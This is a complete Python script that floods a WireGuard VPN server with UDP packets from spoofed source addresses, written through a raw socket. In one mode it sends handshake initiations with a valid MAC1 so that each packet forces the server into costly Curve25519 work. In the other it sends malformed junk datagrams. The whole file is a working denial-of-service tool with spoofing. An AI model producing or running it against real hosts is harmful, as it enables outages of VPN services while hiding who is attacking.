#!/usr/bin/env python3
"""udp_flood.py KIND TARGET PORT SECONDS RATE SOURCES [SERVER_PUBLIC_KEY]

Sends UDP datagrams to TARGET:PORT for SECONDS at about RATE per second from random source
addresses in the IPv4 prefix SOURCES and random source ports, through a raw socket (the IP
header written here, so the sources are spoofed), and prints how many it sent. KIND:
  handshake  WireGuard handshake initiations with a valid MAC1 for SERVER_PUBLIC_KEY (base64),
             which anyone who knows the server's public key can compute, and random contents: each
             one costs a server that is not under load a Curve25519 operation;
  garbage    datagrams of random length and content, a third of them shaped as transport
             messages to random receiver indices and a third as initiations with a wrong MAC1.
"""
import base64
import hashlib
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def mac1_key(public_key):
    return hashlib.blake2s(b"mac1----" + public_key).digest()


def initiation(key):
    body = struct.pack("<I", 1) + os.urandom(4 + 32 + 48 + 28)
    mac1 = hashlib.blake2s(body, digest_size=16, key=key).digest()
    return body + mac1 + bytes(16)


def garbage():
    pick = random.randrange(3)
    if pick == 0:
        return os.urandom(random.randint(1, 1400))
    if pick == 1:  # a transport message to an index nobody holds
        return struct.pack("<I", 4) + os.urandom(4 + 8) + os.urandom(random.randint(16, 1400))
    return struct.pack("<I", 1) + os.urandom(144)  # an initiation whose MAC1 is wrong


def packet(source, sport, target, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
    total = 20 + len(udp)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.getrandbits(16), 0, 64, socket.IPPROTO_UDP, 0,
                         source, target)
    return header + udp  # the kernel fills in the header checksum


def main():
    kind, target, port, seconds, rate, sources = sys.argv[1:7]
    key = mac1_key(base64.b64decode(sys.argv[7])) if kind == "handshake" else None
    net = ipaddress.ip_network(sources)
    first, size = int(net.network_address), net.num_addresses
    target_bytes = socket.inet_aton(target)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + float(seconds)
    batch = 50
    interval = batch / float(rate)
    sent = 0
    next_batch = time.monotonic()
    while time.monotonic() < end:
        for _ in range(batch):
            source = struct.pack("!I", first + random.randrange(size))
            payload = initiation(key) if key else garbage()
            try:
                sock.sendto(packet(source, random.randint(1024, 65535), target_bytes, int(port), payload), (target, 0))
                sent += 1
            except OSError:  # a full queue: a flood loses some, as floods do
                pass
        next_batch += interval
        delay = next_batch - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(sent)


if __name__ == "__main__":
    main()
